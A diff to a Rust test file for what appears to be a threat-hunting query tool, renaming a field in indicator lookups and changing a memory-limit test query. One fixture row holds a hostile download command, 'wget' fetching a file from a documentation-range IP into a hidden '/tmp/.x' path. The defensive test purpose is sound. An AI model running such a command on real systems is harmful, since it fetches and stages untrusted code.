@@ -120,7 +120,7 @@ fn ready_questions_give_the_right_rows() {
     // An address is not the beginning of another, and a record that came twice is one.
     assert_eq!(ask(Ask::Ioc(text("192.0.2.7"))).all("about"), ["wget http://192.0.2.7/x -O /tmp/.x"]);
     assert_eq!(ask(Ask::Ioc(text("http://192.0.2.77/x"))).all("host_uid"), ["web2"]);
-    assert_eq!(ask(Ask::Ioc(text("EVIL.example"))).all("process_pid"), ["Int(103)"]);
+    assert_eq!(ask(Ask::Ioc(text("EVIL.example"))).all("pid"), ["Int(103)"]);
     assert_eq!(ask(Ask::Ioc(text("192.168.0.4:445"))).rows.len(), 3);
     assert_eq!(ask(Ask::Ioc(text("203.0.113.40"))).all("activity"), ["logon", "logon_failed"]);
 
@@ -140,7 +140,7 @@ fn ready_questions_give_the_right_rows() {
     assert_eq!(account.all("class").iter().filter(|it| **it == "authentication").count(), 1);
     assert_eq!(account.all("host_uid").iter().filter(|it| **it == "web2").count(), 1);
     assert_eq!(account.rows.len(), 5);
-    assert_eq!(ask(Ask::Account(text("o'brien"))).all("process_pid"), ["Int(105)"]);
+    assert_eq!(ask(Ask::Account(text("o'brien"))).all("pid"), ["Int(105)"]);
 
     // A short name is not the beginning of another.
     let host = ask_of(&lake, Ask::Host, Some("WEB1"), Window::default());
@@ -232,7 +232,8 @@ fn an_answer_is_bounded_and_an_error_says_what_to_do() {
     let endless = "SELECT count(*) FROM generate_series(1, 1000000000000)";
     assert!(error(endless, &short).to_string().contains("--timeout"));
     let small = Bounds { memory: 1 << 20, ..BOUNDS };
-    let large = "SELECT count(DISTINCT a.value * 1000003 + b.value) FROM generate_series(1, 3000) a, generate_series(1, 3000) b";
+    let large =
+        "SELECT count(*) FROM generate_series(1, 1000000) a JOIN generate_series(1, 1000000) b ON a.value = b.value";
     let error = error(large, &small);
     assert!(matches!(error, HuntError::TooLarge(..)), "{error}");
     // However deep it is nested, it ends.
